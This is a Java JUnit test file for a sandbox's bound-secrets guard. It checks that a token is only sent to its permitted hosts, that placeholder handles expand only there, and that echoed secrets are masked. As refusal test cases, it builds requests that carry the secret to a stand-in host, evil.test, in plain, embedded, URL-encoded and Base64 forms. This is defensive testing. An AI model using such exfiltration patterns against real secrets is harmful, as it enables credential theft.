package io.countersign.execution.http;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTrue;

import io.countersign.sandbox.HttpCall;
import io.countersign.sandbox.HttpFailure;
import io.countersign.sandbox.HttpReply;
import io.countersign.workflows.SecretBinding;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.time.Instant;
import java.util.ArrayList;
import java.util.Base64;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.Test;

/** A bound secret goes where its binding says, and a handle is worth nothing elsewhere. */
class BoundSecretsTest {

    private static final String VALUE = "s3cr\"t va/lue";

    private final List<HttpCall> sent = new ArrayList<>();
    private String answer = "ok";

    private HttpExchange guarded(BoundSecrets secrets) {
        return secrets.guarding(call -> {
            sent.add(call);
            return new HttpReply(200, Map.of("X-Echo", List.of(answer)), answer.getBytes(StandardCharsets.UTF_8));
        });
    }

    private static BoundSecrets bound(boolean handle, String... hosts) {
        SecretBinding binding = new SecretBinding(
                "TOKEN", List.of(), List.of(), List.of(hosts), handle, Instant.EPOCH, Instant.EPOCH, 0);
        return BoundSecrets.forScript(Map.of("TOKEN", VALUE), Map.of("TOKEN", binding));
    }

    private static HttpCall call(String url, String header, String type, String body) {
        return new HttpCall(
                "POST",
                url,
                List.of(Map.entry("Authorization", header), Map.entry("Content-Type", type)),
                body.getBytes(StandardCharsets.UTF_8),
                true,
                Duration.ofSeconds(1),
                1000);
    }

    private static void refused(HttpExchange exchange, HttpCall call) {
        HttpFailure failure = assertThrows(HttpFailure.class, () -> exchange.send(call));
        assertEquals(HttpFailure.Kind.REFUSED, failure.kind());
        assertTrue(failure.getMessage().contains("TOKEN may not be sent to evil.test"), failure.getMessage());
    }

    @Test
    void aBoundSecretIsSentToItsHostsAlone() throws Exception {
        BoundSecrets secrets = bound(false, "api.test:443");
        HttpExchange exchange = guarded(secrets);
        assertEquals(VALUE, secrets.given().get("TOKEN"));
        exchange.send(call("https://api.test/x", VALUE, "text/plain", VALUE));
        refused(exchange, call("https://evil.test/x", VALUE, "text/plain", ""));
        refused(exchange, call("https://evil.test/x", "", "text/plain", "a" + VALUE + "b"));
        refused(exchange, call("https://evil.test/?q=s3cr%22t%20va%2Flue", "", "text/plain", ""));
        String encoded = Base64.getEncoder().encodeToString(VALUE.getBytes(StandardCharsets.UTF_8));
        refused(exchange, call("https://evil.test/x", "Basic " + encoded, "text/plain", ""));
        exchange.send(call("https://evil.test/x", "harmless", "text/plain", "harmless"));
        assertEquals(2, sent.size());
    }

    @Test
    void aHandleBecomesTheValueInRequestsToItsHosts() throws Exception {
        BoundSecrets secrets = bound(true, "api.test");
        String token = secrets.given().get("TOKEN");
        assertFalse(token.contains(VALUE));
        guarded(secrets)
                .send(call(
                        "https://api.test/x?key=" + token,
                        "Bearer " + token,
                        "application/json",
                        "{\"k\":\"" + token + "\"}"));
        HttpCall call = sent.get(0);
        assertEquals("https://api.test/x?key=s3cr%22t%20va%2Flue", call.url());
        assertEquals("Bearer " + VALUE, call.headers().get(0).getValue());
        assertEquals("{\"k\":\"s3cr\\\"t va/lue\"}", new String(call.body(), StandardCharsets.UTF_8));
    }

    @Test
    void elsewhereItStaysWhatItIs() throws Exception {
        BoundSecrets secrets = bound(true, "api.test");
        String token = secrets.given().get("TOKEN");
        guarded(secrets).send(call("https://evil.test/?q=" + token, token, "text/plain", token));
        assertEquals("https://evil.test/?q=" + token, sent.get(0).url());
        assertEquals(token, sent.get(0).headers().get(0).getValue());
        assertEquals(token, new String(sent.get(0).body(), StandardCharsets.UTF_8));
    }

    @Test
    void inAHostNameItStaysWhatItIs() throws Exception {
        BoundSecrets secrets = bound(true, "*.api.test");
        String token = secrets.given().get("TOKEN");
        guarded(secrets).send(call("https://" + token.substring(0, 20) + ".api.test/" + token, "", "text/plain", ""));
        assertTrue(sent.get(0).url().startsWith("https://" + token.substring(0, 20) + ".api.test/s3cr"));
    }

    @Test
    void anAnswerThatRepeatsItDoesNotReachTheScript() throws Exception {
        BoundSecrets secrets = bound(true, "api.test");
        answer = "you sent " + VALUE;
        HttpReply reply =
                guarded(secrets).send(call("https://api.test/", secrets.given().get("TOKEN"), "text/plain", ""));
        assertEquals("you sent ***", new String(reply.body(), StandardCharsets.UTF_8));
        assertEquals(List.of("you sent ***"), reply.headers().get("X-Echo"));
    }

    @Test
    void eachRunHasATokenOfItsOwn() {
        assertFalse(bound(true, "api.test")
                .given()
                .get("TOKEN")
                .equals(bound(true, "api.test").given().get("TOKEN")));
    }
}
